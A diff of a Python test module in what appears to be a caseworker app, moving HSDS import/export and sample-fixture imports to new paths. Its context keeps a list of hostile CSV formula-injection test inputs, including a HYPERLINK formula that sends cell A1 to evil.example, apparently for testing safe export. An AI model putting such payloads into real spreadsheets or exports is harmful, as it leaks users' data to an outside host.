@@ -11,10 +11,10 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from caseworker.domain import csv_cells
-from caseworker.domain.hsds import export_hsds_tabular, import_hsds_tabular
+from caseworker.hsds.files import export_hsds_tabular, import_hsds_tabular
 from caseworker.domain.text import visible_text
 from caseworker.reports.tables import ReportTable, Row, write_csv
-from tests.domain.test_hsds import rich_directory
+from tests.hsds.samples import rich_directory
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"ALO 183")', "+90 232 000 00 00", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "'=already quoted"]
 
